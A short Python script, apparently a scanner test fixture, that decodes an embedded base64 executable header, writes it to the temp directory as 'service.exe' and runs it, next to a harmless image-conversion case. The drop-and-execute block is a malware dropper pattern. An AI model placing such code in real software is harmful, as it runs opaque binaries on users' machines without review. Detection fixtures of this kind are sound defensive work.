import base64
import os
import subprocess
import tempfile
import zlib

DATA = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"

path = os.path.join(tempfile.gettempdir(), "service.exe")
with open(path, "wb") as file:
    file.write(base64.b64decode(DATA))
subprocess.Popen([path])  # expect: opaque-code

logo = os.path.join(tempfile.gettempdir(), "logo.png")
with open(logo, "wb") as file:
    file.write(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"))
subprocess.run(["convert", logo, "logo.gif"])
